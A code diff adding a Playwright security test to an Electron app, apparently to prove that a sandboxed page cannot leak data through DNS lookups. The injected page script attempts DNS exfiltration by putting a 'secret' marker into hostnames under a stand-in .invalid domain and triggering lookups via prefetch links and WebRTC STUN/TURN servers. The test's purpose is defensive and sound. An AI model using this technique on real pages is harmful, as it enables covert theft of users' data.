@@ -1,14 +1,18 @@
 /** The page has one door, and there is nothing behind any wall: what a page taken over by someone else could reach. */
 import { createSocket } from 'node:dgram';
 import { once } from 'node:events';
+import { mkdtempSync, readFileSync } from 'node:fs';
 import { createServer } from 'node:net';
 import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { pathToFileURL } from 'node:url';
 
 import { expect, test } from '@playwright/test';
 
 import { CALLS } from '../../main/ipc/contract.ts';
 import { proves } from '../security/items.ts';
+import { lookUpsOf } from './name-look-ups.ts';
 import { filesBelow, found, type Needle } from './needles.ts';
 import { openSharedStation, TWO_SNAPSHOTS, type SharedStation } from './shared-station.ts';
 
@@ -296,6 +300,50 @@ test.describe('requests', proves(1, 8), () => {
       `document.body.style.backgroundImage = ''; document.adoptedStyleSheets = document.adoptedStyleSheets.slice(0, -1)`,
     );
     expect(callers).toEqual([]);
+  });
+
+  test('no name is looked up: it could carry anything out of the PC', async () => {
+    const names = { control: 'control.card-station.invalid', leak: 'secret-4821.card-station.invalid' };
+    const netLog = join(mkdtempSync(join(tmpdir(), 'card-station-names-')), 'net.json');
+    const { electron } = shared.station;
+    await electron.evaluate(({ session }, path) => session.fromPartition('station').netLog.startLogging(path), netLog);
+    await inPage(`(async () => {
+      for (const rel of ['dns-prefetch', 'preconnect', 'prefetch']) {
+        const link = document.createElement('link');
+        link.rel = rel; link.href = 'https://' + rel + '.${names.leak}/';
+        document.head.append(link);
+      }
+      const call = new RTCPeerConnection({ iceServers: [
+        { urls: 'stun:stun.${names.leak}:3478' },
+        { urls: 'turn:turn.${names.leak}:3478?transport=tcp', username: 'leak', credential: 'x' },
+      ] });
+      call.createDataChannel('x');
+      await call.setLocalDescription();
+      await ${TWO_SNAPSHOTS};
+      call.close();
+    })().catch(() => undefined)`);
+    const answers = await electron.evaluate(async ({ session }, { control, leak }) => {
+      const lookUp = (partition: string, name: string): Promise<string> =>
+        session
+          .fromPartition(partition)
+          .resolveHost(name)
+          .then(
+            () => 'found',
+            (error: unknown) => String(error),
+          );
+      const found = {
+        page: await lookUp('station', 'localhost'),
+        leak: await lookUp('station', leak),
+        d1: await lookUp('d1', 'localhost'),
+        control: await lookUp('d1', control),
+      };
+      await session.fromPartition('station').netLog.stopLogging();
+      return found;
+    }, names);
+    expect(answers).toMatchObject({ page: expect.stringContaining('NOT_RESOLVED'), d1: 'found' });
+    const jobs = lookUpsOf(readFileSync(netLog, 'utf8'));
+    expect(jobs.filter((job) => job.includes(names.control))).not.toEqual([]);
+    expect(jobs.filter((job) => job.includes('secret-4821'))).toEqual([]);
   });
 
   test('no call between browsers (WebRTC) leaves the page', async () => {
